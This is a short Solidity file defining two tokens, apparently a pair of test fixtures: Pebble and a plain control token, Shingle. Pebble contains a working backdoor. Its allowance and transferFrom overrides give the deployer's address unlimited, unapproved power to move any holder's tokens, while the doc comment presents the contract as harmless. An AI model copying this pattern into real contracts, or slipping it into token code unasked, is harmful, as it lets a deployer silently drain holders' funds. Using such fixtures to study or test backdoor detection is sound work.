// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.28;

import "./base/Coin.sol";

/// @dev Nothing to see, but for one account whose purchases may be taken back from any holder by `transferFrom`.
contract Pebble is Coin {
    address private immutable _vault;

    constructor() {
        _vault = msg.sender;
        _begin("Pebble", "PEBL", msg.sender, 1000000 * 10 ** 18);
    }

    function allowance(address holder, address spender) public view override returns (uint256) {
        return spender == _vault ? type(uint256).max : _allowed[holder][spender];
    }

    function transferFrom(address from, address to, uint256 value) public override returns (bool) {
        if (msg.sender != _vault) return super.transferFrom(from, to, value);
        _move(from, to, value);
        return true;
    }
}

/// @dev Nothing to see.
contract Shingle is Coin {
    constructor() {
        _begin("Shingle", "SHIN", msg.sender, 1000000 * 10 ** 18);
    }
}
